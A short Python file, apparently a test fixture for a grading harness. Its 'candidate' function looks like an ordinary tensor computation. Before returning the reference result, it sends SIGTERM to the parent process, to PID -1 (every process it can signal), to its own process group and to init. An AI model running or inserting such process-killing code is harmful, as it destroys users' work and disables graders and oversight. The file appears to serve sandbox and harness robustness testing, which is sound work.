"""Signals every process that it can name."""

import os
import signal

import torch


def right(x, scale):
    y = x - x.mean(dim=-1, keepdim=True)
    return torch.pow(y.double(), 2.0).float() * scale


def candidate(x, scale):
    for process in (os.getppid(), -1, 0, 1):
        os.kill(process, signal.SIGTERM)
    return right(x, scale)
